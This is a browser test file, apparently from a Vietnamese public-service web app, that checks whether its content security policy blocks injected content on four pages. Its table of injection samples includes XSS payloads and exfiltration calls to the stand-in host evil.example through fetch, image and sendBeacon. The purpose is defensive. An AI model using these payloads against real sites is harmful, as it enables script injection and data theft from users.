// The content security policy proven in the browser: what an attacker would inject does not run, does not load, does not leave.
import assert from 'node:assert/strict';
import { test } from '../lib/runner.mjs';
import { close, expect, newPerson, signIn } from '../lib/browser.mjs';

const kTimeout = { timeout: 120_000 };

// Each leaves window.injected when it works. The addresses are of nobody: nothing may even be asked of them.
const kInjections = {
  'an inline script': () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.injected = "inline"' })),
  'a script of another site': () => document.body.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/x.js' })),
  'a script in a data address': () => document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.injected="data"' })),
  'a handler in an attribute': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="/khong-co.png" onerror="window.injected=\'handler\'"><button id="evil" onclick="window.injected=\'click\'">x</button>');
    document.getElementById('evil').click();
  },
  'a javascript address': () => {
    const link = Object.assign(document.createElement('a'), { href: 'javascript:window.injected="link"' });
    document.body.append(link);
    link.click();
  },
  // Later, because the test's own call is one of the debugger, which the policy does not bind.
  'text taken for a program': () =>
    void setTimeout(() => {
      setTimeout('window.injected = "timeout"', 0);
      new Function('window.injected = "eval"')();
    }, 0),
  'a style of its own': () => document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { --injected: 1; outline: 9px solid red }' })),
  'a frame of another site': () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://evil.example/' })),
  'an object': () => document.body.append(Object.assign(document.createElement('object'), { data: '/healthz' })),
  'a base for every link': () => document.head.append(Object.assign(document.createElement('base'), { href: 'http://evil.example/' })),
  'a form that sends elsewhere': () => {
    const form = Object.assign(document.createElement('form'), { action: 'http://evil.example/', method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  'a request to another site': () => void fetch('http://evil.example/?stolen=1').catch(() => undefined),
  'a picture that carries data away': () => void (new Image().src = 'http://evil.example/?stolen=1'),
  'a beacon': () => void navigator.sendBeacon('http://evil.example/', 'stolen')
};

for (const [who, path] of [
  ['', '/'],
  ['cong-dan', '/cai-dat'],
  ['mot-cua', '/can-bo'],
  ['quan-tri', '/quan-tri/tai-khoan']
])
  test(`csp: nothing injected into ${path} runs or reaches another site`, async () => {
    const person = await newPerson({ width: 1280, height: 800 });
    const { page } = person;
    if (who) await signIn(person, who);
    const asked = [];
    await page.route(/evil\.example/, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    for (const [what, inject] of Object.entries(kInjections)) {
      await page.goto(path);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      await page.evaluate(() => {
        window.violations = [];
        document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));
      });
      await page.evaluate(inject);
      await expect.poll(() => page.evaluate(() => window.violations.length), { message: `${what}: no violation` }).toBeGreaterThan(0);
      assert.equal(await page.evaluate(() => window.injected), undefined, what);
      assert.equal(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--injected')), '', what);
      assert.equal(new URL(await page.evaluate(() => document.baseURI)).hostname, '127.0.0.1', what);
    }
    assert.deepEqual(asked, []);
    // These were meant: what the policy reports on its own is judged with every other screen.
    person.complaints.length = 0;
    await close(person);
  }, kTimeout);
